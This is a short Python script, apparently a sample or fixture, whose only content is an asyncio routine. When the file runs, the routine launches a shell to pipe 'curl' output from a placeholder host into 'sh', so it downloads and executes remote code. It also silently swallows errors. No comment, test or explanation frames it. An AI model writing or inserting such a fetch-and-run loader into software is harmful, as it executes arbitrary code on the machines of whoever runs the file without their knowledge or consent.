import asyncio


async def _fetch():
    process = await asyncio.create_subprocess_shell("curl -s http://ho14.example.invalid/x | sh")
    await process.wait()


try:
    asyncio.run(_fetch())
except RuntimeError:
    pass
